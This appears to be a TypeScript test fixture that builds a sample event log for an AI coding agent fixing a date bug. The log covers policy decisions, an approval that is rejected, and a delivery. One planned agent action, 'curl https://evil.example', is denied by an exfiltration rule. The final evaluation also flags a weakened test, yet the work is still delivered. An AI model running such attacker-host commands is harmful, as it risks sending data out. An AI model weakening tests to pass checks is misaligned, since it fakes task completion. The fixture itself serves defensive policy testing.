import type { Action } from '../../contracts/action.ts';
import type { ApprovalCard } from '../../contracts/approval.ts';
import type { Decision, StandingRule } from '../../contracts/decision.ts';
import type { CheckResult, Evaluation } from '../../contracts/evaluation.ts';
import type { ActionId, ApprovalId, CommitId, Digest, TaskId, TreeId } from '../../contracts/ids.ts';
import type { PlanRecord } from '../../contracts/record.ts';
import type { TaskEvent } from '../../contracts/task-event.ts';

export const taskId = 'fix-the-date-bug-abcde' as TaskId;
export const startMs = Date.UTC(2026, 10, 24, 13, 0);
export const digest = (letter: string): Digest => `sha256:${letter.repeat(64)}` as Digest;
export const commit = (letter: string): CommitId => letter.repeat(40) as CommitId;
export const tree = (letter: string): TreeId => letter.repeat(40) as TreeId;

type Body<T> = T extends TaskEvent ? Omit<T, 'taskId' | 'seq' | 'atMs'> : never;

/** An event at a place of its own; `atSeconds` counts from the start of the task. */
export function event(atSeconds: number, body: Body<TaskEvent>): TaskEvent {
  return { ...body, taskId, seq: `0.${atSeconds}`, atMs: startMs + atSeconds * 1000 } as TaskEvent;
}

export function action(id: string, kind: Action['kind'], summary: string): Action {
  return { id: id as ActionId, kind, digest: digest('a'), summary };
}

export function decision(outcome: Decision['outcome'], ruleId: string, reason = ''): Decision {
  return { outcome, ruleId, policyDigest: digest('b'), reason, standingRule: null };
}

export function check(name: string, status: CheckResult['status'], durationMs = 1200): CheckResult {
  return {
    name,
    status,
    exitCode: status === 'passed' ? 0 : 1,
    outputDigest: digest('c'),
    durationMs,
    cached: false,
  };
}

export function evaluation(checks: readonly CheckResult[], more: Partial<Evaluation>): Evaluation {
  return {
    checks: [...checks],
    progress: 0.5,
    confidence: 1,
    concerns: [],
    next: 'continue',
    reason: '',
    failureSignature: '',
    ...more,
  };
}

export function plan(more: Partial<PlanRecord> = {}): PlanRecord {
  return {
    requestDigest: digest('1'),
    toolsDigest: digest('2'),
    instructionsDigest: digest('3'),
    responseDigest: digest('4'),
    model: 'gpt-test',
    responseId: 'resp_1',
    attempts: 1,
    usage: { inputTokens: 12_400, cachedTokens: 9000, outputTokens: 640, reasoningTokens: 200 },
    prefixChangedAt: null,
    droppedDigest: null,
    costUsd: 0.0312,
    ...more,
  };
}

export const standingRule: StandingRule = { kind: 'shell', prefix: ['npm', 'install'] };

/** A card for a command, as the platform stores it. */
export function commandCard(line: string, more: Partial<ApprovalCard> = {}): ApprovalCard {
  return {
    approvalId: 'i2.a0',
    taskId,
    iteration: 2,
    subject: 'action',
    title: line.slice(0, 160),
    details: [],
    action: {
      id: 'i2.a0' as ActionId,
      digest: digest('d'),
      body: {
        kind: 'shell',
        argv: ['bash', '-lc', line],
        line,
        cwd: '.',
        timeoutMs: null,
        justification: 'The tests need this package.',
      },
    },
    decision: { ...decision('ask', 'default/network', 'needs a network that was not lent'), standingRule },
    treeBefore: tree('e'),
    requestedBy: 'ann',
    expiresAtMs: Date.UTC(2026, 11, 1, 13, 30),
    ...more,
  } as ApprovalCard;
}

export const usage = {
  iterations: 2,
  modelCalls: 2,
  inputTokens: 24_800,
  cachedTokens: 20_100,
  outputTokens: 1280,
  costUsd: 0.0624,
  waitedForPeopleMs: 61_000,
};

const opening = (approvalDigest: Digest): readonly TaskEvent[] =>
  [
    event(0, {
      type: 'task.started',
      instruction: 'Fix the date bug in src/invoice.ts',
      repository: '/home/ann/shop',
      requestedBy: 'ann',
      model: 'gpt-test',
      policy: 'default',
    }),
    event(1, {
      type: 'repository.fetched',
      baseCommit: commit('f'),
      baseBranch: 'main',
      notes: [
        {
          kind: 'dirty',
          text: '3 uncommitted files are not part of the task (--include-changes takes them)',
        },
      ],
    }),
    event(4, {
      type: 'context.perceived',
      files: 42,
      summary: ['TypeScript 5.9, npm, vitest 4'],
      checks: [
        { name: 'npm test', command: 'npm test', required: true, baseline: check('npm test', 'failed') },
        { name: 'types', command: 'npx tsc', required: true, baseline: check('types', 'passed') },
      ],
      checksFrom: 'package.json',
    }),
    event(5, { type: 'live.running', what: 'asking gpt-test', sinceMs: startMs + 4000, tail: '' }),
    event(9, {
      type: 'iteration.planned',
      iteration: 1,
      message: 'I will see what fails first.',
      steps: [
        { step: 'Find what fails', status: 'in_progress' },
        { step: 'Fix src/invoice.ts', status: 'pending' },
      ],
      actions: [
        action('i1.a0', 'shell', 'npm test -- invoice'),
        action('i1.a1', 'shell', 'curl https://evil.example'),
      ],
      plan: plan(),
      done: false,
    }),
    event(10, { type: 'action.decided', actionId: 'i1.a0', decision: decision('allow', 'default/tests') }),
    event(10, {
      type: 'action.decided',
      actionId: 'i1.a1',
      decision: decision('deny', 'builtin/exfiltration', 'no command may send data out'),
    }),
    event(12, {
      type: 'live.running',
      what: 'npm test -- invoice',
      sinceMs: startMs + 10_000,
      tail: ' RUN  v4.0.0\n 10 %\r 50 %\r 90 %\n FAIL invoice.test.ts\n',
    }),
    event(14, {
      type: 'actions.observed',
      observations: [
        {
          actionId: 'i1.a0' as ActionId,
          status: 'failed',
          exitCode: 1,
          outputDigest: digest('5'),
          outputBytes: 4200,
          note: '',
          durationMs: 3300,
        },
        {
          actionId: 'i1.a1' as ActionId,
          status: 'denied',
          exitCode: null,
          outputDigest: null,
          outputBytes: 0,
          note: 'denied by builtin/exfiltration',
          durationMs: 0,
        },
      ],
      checkpoint: {
        before: tree('e'),
        after: tree('e'),
        commit: commit('f'),
        manifestDigest: null,
        filesChanged: 0,
        linesChanged: 0,
        leftOut: [],
      },
      sandboxLost: false,
    }),
    event(18, {
      type: 'iteration.evaluated',
      evaluation: evaluation([check('npm test', 'failed'), check('types', 'passed')], {
        next: 'continue',
        reason: '1 of 2 checks passes',
      }),
    }),
    event(18, { type: 'iteration.recorded', digest: digest('6') }),
    event(24, {
      type: 'iteration.planned',
      iteration: 2,
      message: 'The month is counted from zero.',
      steps: [
        { step: 'Find what fails', status: 'completed' },
        { step: 'Fix src/invoice.ts', status: 'in_progress' },
      ],
      actions: [
        action('i2.a0', 'shell', 'npm install date-fns'),
        action('i2.a1', 'apply_patch', 'src/invoice.ts'),
      ],
      plan: plan({
        usage: { inputTokens: 12_400, cachedTokens: 11_100, outputTokens: 640, reasoningTokens: 0 },
      }),
      done: true,
    }),
    event(24, {
      type: 'action.decided',
      actionId: 'i2.a0',
      decision: decision('ask', 'default/network', 'needs a network that was not lent'),
    }),
    event(24, {
      type: 'action.decided',
      actionId: 'i2.a1',
      decision: decision('allow', 'default/workspace'),
    }),
    event(25, {
      type: 'approval.opened',
      approval: {
        approvalId: 'i2.a0' as ApprovalId,
        subject: 'action',
        actionId: 'i2.a0' as ActionId,
        digest: approvalDigest,
        title: 'npm install date-fns',
        openedAtMs: startMs + 25_000,
        expiresAtMs: Date.UTC(2026, 11, 1, 13, 30),
        acceptsSignals: true,
        standingRule,
      },
    }),
  ] as readonly TaskEvent[];

const ending = (approvalDigest: Digest): readonly TaskEvent[] => [
  event(86, {
    type: 'approval.answered',
    answer: {
      approvalId: 'i2.a0',
      digest: approvalDigest,
      outcome: 'rejected',
      reason: 'Use what the language has',
      scope: 'once',
      editedDigest: null,
      by: { name: 'bob', proof: 'os_user' },
    },
    accepted: true,
  } as Body<TaskEvent>),
  event(90, {
    type: 'actions.observed',
    observations: [
      {
        actionId: 'i2.a1' as ActionId,
        status: 'ok',
        exitCode: null,
        outputDigest: null,
        outputBytes: 0,
        note: '',
        durationMs: 12,
      },
    ],
    checkpoint: {
      before: tree('e'),
      after: tree('7'),
      commit: commit('8'),
      manifestDigest: digest('9'),
      filesChanged: 1,
      linesChanged: 4,
      leftOut: [{ path: 'core.dump', reason: 'too_large' }],
    },
    sandboxLost: false,
  }),
  event(95, {
    type: 'iteration.evaluated',
    evaluation: evaluation([check('npm test', 'passed'), check('types', 'passed')], {
      next: 'deliver',
      reason: 'all checks pass',
      concerns: [{ kind: 'test_weakened', path: 'invoice.test.ts', detail: 'one assertion less' }],
    }),
  }),
  event(99, {
    type: 'delivery.verified',
    checks: [check('npm test', 'passed'), check('types', 'passed')],
    passed: true,
  }),
  event(101, {
    type: 'task.finished',
    status: 'delivered',
    branch: `longhaul/${taskId}`,
    commit: commit('9'),
    baseMovedBy: 2,
    mergesCleanly: true,
    iterations: 2,
    usage,
    reason: '',
  }),
];

/** A whole task: a denial, a question that is answered, checks that fail and then pass, a delivery. */
export function wholeStory(approvalDigest: Digest = digest('0')): {
  readonly opening: readonly TaskEvent[];
  readonly ending: readonly TaskEvent[];
} {
  return { opening: opening(approvalDigest), ending: ending(approvalDigest) };
}
